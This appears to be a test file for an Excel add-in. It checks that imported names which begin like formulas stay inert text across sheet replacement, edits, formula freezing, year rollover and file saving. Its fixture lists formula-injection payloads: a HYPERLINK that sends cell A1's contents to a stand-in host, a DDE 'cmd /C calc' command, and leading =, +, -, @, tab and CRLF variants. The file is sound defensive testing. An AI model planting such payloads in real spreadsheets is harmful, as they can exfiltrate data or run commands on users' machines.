/**
 * Formula injection: a name that was imported or pasted and begins as a formula does is a text in the workbook it came into,
 * and stays one wherever the add-in writes it again. A marker in each such text finds it anywhere, in the book and in
 * what is sent to Excel.
 */
import { Workbook } from "@cj-tech-master/excelts";
import { writeInputs } from "../../src/excel/write-inputs";
import { saveXlsx } from "../../src/preview/book/save-xlsx";
import { openAddIn } from "../support/add-in";
import { cellsOf, freezeFormulas, restoreFormulas, speakTo } from "../support/frozen-workbook";
import type { OpenExcel } from "../../src/preview/headless";

const MARKER = "INTRUS";
const HOSTILE = [
  `=HYPERLINK("https://x.test/?"&A1,"${MARKER}")`,
  `=cmd|'/C calc'!${MARKER}`,
  `+1+${MARKER}()`,
  `-2+${MARKER}()`,
  `@SUM(${MARKER})`,
  `\t=${MARKER}()`,
  `\r\n=${MARKER}()`,
];

/** Columns and cells where a person's texts stand, on every sheet that has some. */
const TEXTS = [
  "eq_label",
  "eq_region",
  "eq_financeurs_habituels_nom",
  "eq_depenses_natures",
  "eq_actions_nom",
  "eq_adherents_nom",
  "eq_adherents_relances",
  "eq_financeurs_financeur",
  "eq_financeurs_convention",
  "eq_realise_piece",
  "eq_realise_tiers",
  "eq_temps_personnes_nom",
  "eq_temps_entreprises_entreprise",
  "eq_services_nom",
  "eq_leviers_nom",
];

let excel: OpenExcel;
/** Texts that were handed to Excel. */
const sent: string[] = [];

function listen(): void {
  const { requests } = excel.host;
  const add = requests.add.bind(requests);
  requests.add = (body, request, response) => {
    for (const [quoted] of request.matchAll(/"(?:[^"\\]|\\.)*"/g))
      if (quoted.includes(MARKER)) sent.push(JSON.parse(quoted) as string);
    add(body, request, response);
  };
}

/** Puts the texts into the names that exist, from their first row, as an import would: as texts. */
async function paste(): Promise<number> {
  return excel.run(async ({ workbook }) => {
    const found = TEXTS.map((name) => ({ item: workbook.names.getItemOrNullObject(name) }));
    await workbook.context.sync();
    const ranges = found
      .filter(({ item }) => !item.isNullObject)
      .map(({ item }) => item.getRange().load("rowCount"));
    await workbook.context.sync();
    for (const range of ranges) {
      const rows = HOSTILE.slice(0, Math.max(1, Math.min(range.rowCount, HOSTILE.length)));
      range.getCell(0, 0).getResizedRange(rows.length - 1, 0).values = rows.map((text) => [`'${text}`]);
    }
    await workbook.context.sync();
    return ranges.length;
  });
}

const held = () =>
  [...cellsOf(excel.store.book)].flatMap(({ sheet, key, cell }) =>
    JSON.stringify([cell.v ?? "", cell.f ?? ""]).includes(MARKER) ? [{ sheet: sheet.name, key, cell }] : [],
  );

/** Every cell with a hostile text holds it as a value, and nothing that was sent could be taken for a formula. */
async function expectTexts(): Promise<Record<string, number>> {
  await excel.calculate();
  const found = held();
  const formulas = found.filter(({ cell }) => cell.f?.includes(MARKER));
  expect(formulas.map(({ sheet, key, cell }) => `${sheet} ${key} ${cell.f}`)).toEqual([]);
  expect(sent.filter((text) => /^[=+\-@\t\r\n]/.test(text))).toEqual([]);
  const counts: Record<string, number> = {};
  for (const { sheet, cell } of found) if (!cell.f) counts[sheet] = (counts[sheet] ?? 0) + 1;
  return counts;
}

beforeAll(async () => {
  excel = await openAddIn();
  speakTo(excel);
  await excel.window.equilibre.insert("complete", {
    language: "fr",
    example: null,
    year: 2026,
    structure: HOSTILE[0]!,
  });
  expect(await paste()).toBe(TEXTS.length);
  listen();
});
afterAll(() => {
  excel.close();
  for (const name of ["Office", "Excel"]) Reflect.deleteProperty(globalThis, name);
});

it("holds them as texts to begin with", async () => {
  const counts = await expectTexts();
  expect(Object.keys(counts).length).toBeGreaterThanOrEqual(9);
});

it("keeps them texts when the sheets are replaced, each of them", async () => {
  const before = await expectTexts();
  await excel.window.equilibre.replace({ suffix: "", set: "complete", language: "fr", followUp: false });
  expect(await expectTexts()).toEqual(before);
  expect(sent.length).toBeGreaterThan(40);
  sent.length = 0;
});

it("keeps them texts when an edit from the pane is applied over them", async () => {
  const place = { name: "eq_actions_nom", row: 0, column: 0 };
  const written = await writeInputs({
    suffix: "",
    changes: [{ place, from: HOSTILE[0]!, to: HOSTILE[4]! }],
    replaceFormulas: false,
  });
  expect(written.state).toBe("written");
  expect(sent).toContain(`'${HOSTILE[4]}`);
  await expectTexts();
});

it("keeps them texts when formulas become values, and come back", async () => {
  await freezeFormulas("set");
  await expectTexts();
  await restoreFormulas();
  await expectTexts();
});

it("keeps them texts in the next year's sheets", async () => {
  sent.length = 0;
  await excel.window.equilibre.nextYear();
  const counts = await expectTexts();
  const made = Object.keys(counts).filter((sheet) => sheet.endsWith(" 2027"));
  expect(made.length).toBeGreaterThanOrEqual(4);
  expect(sent.length).toBeGreaterThan(10);
});

it("keeps them texts in the saved file", async () => {
  const workbook = new Workbook();
  await workbook.xlsx.load(Buffer.from(await saveXlsx(excel.store.book)));
  const texts = workbook.worksheets.flatMap((sheet) => {
    const found: { formula: string; value: unknown }[] = [];
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (String(cell.text).includes(MARKER))
          found.push({ formula: cell.formula ?? "", value: cell.value });
      }),
    );
    return found;
  });
  expect(texts.length).toBeGreaterThan(60);
  expect(texts.filter(({ formula }) => formula.includes(MARKER))).toEqual([]);
});
